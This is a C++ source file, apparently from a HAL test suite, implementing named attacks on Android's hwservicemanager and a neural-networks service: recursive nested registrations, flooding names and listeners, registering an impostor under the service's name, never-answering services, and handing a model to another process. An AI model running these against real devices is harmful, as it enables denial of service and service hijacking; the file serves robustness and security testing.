// SPDX-License-Identifier: Apache-2.0
//
// Attacks on hwservicemanager, and on a service by way of it.

#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <csignal>
#include <cstdio>
#include <functional>
#include <memory>
#include <span>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "tests/device/attacker/attack.h"
#include "tests/device/attacker/client.h"
#include "tests/device/attacker/prepared_client.h"

namespace halyard::attacker {

namespace {

using hal::hidl::HidlString;
using hal::hidl::HidlVec;
using Manager = hal::hidl::manager::v1_2::IServiceManager;

// Registers an object under a name by its chain, so that no process is asked for it. Whether
// hwservicemanager took it.
bool addWithChain(Link& link, const std::string& name, std::span<const std::string_view> chain,
                  const std::function<void(RawParcel&)>& object) {
    std::vector<HidlString> strings(chain.size());
    for (size_t i = 0; i < chain.size(); ++i) {
        strings[i].address = reinterpret_cast<uintptr_t>(chain[i].data());
        strings[i].length = static_cast<uint32_t>(chain[i].size());
    }
    HidlVec<HidlString> vec;
    vec.address = reinterpret_cast<uintptr_t>(strings.data());
    vec.count = static_cast<uint32_t>(strings.size());
    RawParcel parcel;
    parcel.token(kManager12);
    parcel.string(name);
    object(parcel);
    parcel.value(vec);
    const Result<Received> added = link.call(kManager, Manager::addWithChain, parcel);
    return added.ok() && added->int32At(4) != 0;
}

// Registers an object of this process's that hwservicemanager has to ask for its chain.
void add(Link& link, const std::string& name, Handler chain) {
    RawParcel parcel;
    parcel.token(kManager10);
    parcel.string(name);
    parcel.ownObject(link.addObject(std::move(chain)));
    static_cast<void>(link.call(kManager, Manager::add, parcel, kPatienceWithLongest));
}

// A prepared model that outlives its client in another process's hands: hwservicemanager's, and
// those of processes that ask that for it.
Status handModelOn(const Settings& settings) {
    constexpr std::array<std::string_view, 2> kChain = {
            "android.hardware.neuralnetworks@1.3::IPreparedModel", "android.hidl.base@1.0::IBase"};
    const pid_t child = fork();
    if (child == 0) {
        const Result<PreparedClient> endless = PreparedClient::connectEndless(settings);
        if (!endless.ok()) {
            _exit(1);
        }
        const bool added =
                addWithChain(endless->client->link(), "handed-on", kChain,
                             [&](RawParcel& parcel) { parcel.othersObject(endless->model); });
        _exit(added ? 0 : 2);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (status != 0) {
        return internalError("the model could not be handed on: " + std::to_string(status));
    }
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
                             Client::connect(settings.instance));
    RawParcel parcel;
    parcel.token(kManager10);
    parcel.string(kChain[0]);
    parcel.string("handed-on");
    uint32_t model = 0;
    {
        HALYARD_ASSIGN_OR_RETURN(const Received reply,
                                 client->link().call(kManager, Manager::get, parcel));
        if (reply.handles().empty()) {
            return internalError("hwservicemanager has no such model");
        }
        model = reply.handles()[0];
        client->link().acquire(model);
    }
    HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
    const RequestBuilder request(pool, 4, 4);
    Tally launched;
    for (int i = 0; i < settings.clients; ++i) {
        launched.add(
                client->launch(model, request.request(), std::make_shared<Notified>(), kLongest));
    }
    printf("%d executions of a model whose client is dead; the last: %s\n", launched.taken,
           launched.last.c_str());
    hold(client->link(), settings);
    return {};
}

// Services that hwservicemanager has to ask for their chain, and that never say it. Each is a
// process of its own.
Status registerMuteServices(const Settings& settings) {
    std::vector<pid_t> children;
    for (int i = 0; i < settings.clients; ++i) {
        const pid_t child = fork();
        if (child == 0) {
            const Result<std::unique_ptr<Link>> link = Link::open();
            if (!link.ok()) {
                _exit(1);
            }
            add(**link, "mute" + std::to_string(i),
                [](const Received& /*call*/, RawParcel& /*reply*/) {
                    pause();
                    return false;
                });
            (*link)->serveUntil([] { return false; }, kPatienceWithLongest);
            _exit(0);
        }
        children.push_back(child);
    }
    printf("%d services that do not answer\n", settings.clients);
    std::this_thread::sleep_for(std::chrono::seconds(settings.seconds));
    for (const pid_t child : children) {
        kill(child, SIGKILL);
        waitpid(child, nullptr, 0);
    }
    return {};
}

// A service that, asked for its chain, registers another, which is asked for its chain, and so on:
// --clients calls within calls.
Status nestRegistrations(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open());
    int deepest = 0;
    std::function<void(int)> nest = [&](int depth) {
        deepest = std::max(deepest, depth);
        if (depth >= settings.clients) {
            return;
        }
        add(*link, "nested" + std::to_string(depth),
            [&nest, depth](const Received& /*call*/, RawParcel& reply) {
                nest(depth + 1);
                reply.int32(0);
                reply.value(HidlVec<HidlString>());
                return true;
            });
    };
    nest(0);
    link->serveUntil([] { return false; }, milliseconds(500));
    printf("%d calls within calls\n", deepest);
    return {};
}

// Thousands of names and listeners of one process.
Status floodNames(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open());
    const uint64_t object =
            link->addObject([](const Received& /*call*/, RawParcel& /*reply*/) { return false; });
    constexpr std::array<std::string_view, 1> kChain = {"flood@1.0::IFlood"};
    int added = 0;
    const std::string filler(2000, 'n');
    for (int i = 0; i < settings.clients; ++i) {
        const std::string name = filler + std::to_string(i);
        added += addWithChain(*link, name, kChain,
                              [&](RawParcel& parcel) { parcel.ownObject(object); })
                         ? 1
                         : 0;
        RawParcel listen;
        listen.token(kManager10);
        listen.string(kChain[0]);
        listen.string(name);
        listen.ownObject(object);
        static_cast<void>(link->call(kManager, Manager::registerForNotifications, listen));
    }
    printf("%d names and as many listeners\n", added);
    hold(*link, settings);
    return {};
}

// An object of ours in the place of the service, under its name and each of its interfaces, again
// and again. With `against` "one", under its oldest interface alone.
Status takeTheName(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open());
    const uint64_t object =
            link->addObject([](const Received& /*call*/, RawParcel& /*reply*/) { return false; });
    std::span<const std::string_view> chain = wire::IDevice::layout().chain;
    constexpr std::array<std::string_view, 1> kOne = {
            "android.hardware.neuralnetworks@1.0::IDevice"};
    if (settings.against == "one") {
        chain = kOne;
    }
    Tally taken;
    int tried = 0;
    for (const Clock::time_point end = endOf(settings); Clock::now() < end; ++tried) {
        const bool added = addWithChain(*link, settings.instance, chain,
                                        [&](RawParcel& parcel) { parcel.ownObject(object); });
        taken.taken += added ? 1 : 0;
        if (tried == 0 || (added && taken.taken == 1)) {
            printf("%s the name at the %d. time\n", added ? "took" : "did not get", tried + 1);
        }
        std::this_thread::sleep_for(milliseconds(5));
    }
    printf("took the name %d of %d times\n", taken.taken, tried);
    return {};
}

// --clients names of this process's, kept; with --processes as many have some.
Status keepNames(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open());
    const uint64_t object =
            link->addObject([](const Received& /*call*/, RawParcel& /*reply*/) { return false; });
    constexpr std::array<std::string_view, 1> kChain = {"crowd@1.0::ICrowd"};
    int taken = 0;
    for (int i = 0; i < settings.clients; ++i) {
        const std::string name = std::to_string(getpid()) + "-" + std::to_string(i);
        taken += addWithChain(*link, name, kChain,
                              [&](RawParcel& parcel) { parcel.ownObject(object); })
                         ? 1
                         : 0;
    }
    printf("has %d names\n", taken);
    hold(*link, settings);
    return {};
}

constexpr std::array<NamedAttack, 6> kManagerAttacks = {{
        {"nested-adds", nestRegistrations,
         "--clients registrations at hwservicemanager, each within the one before"},
        {"name-flood", floodNames, "--clients names and listeners at hwservicemanager"},
        {"name-thief", takeTheName,
         "registers itself under the service's name; against: one (of its interfaces)"},
        {"name-crowd", keepNames, "--clients names, kept; for --processes"},
        {"hand-on", handModelOn, "a model in the hands of another process, after its client"},
        {"mute-services", registerMuteServices,
         "--clients services that never say their chain to hwservicemanager"},
}};

}  // namespace

std::span<const NamedAttack> managerAttacks() {
    return kManagerAttacks;
}

}  // namespace halyard::attacker
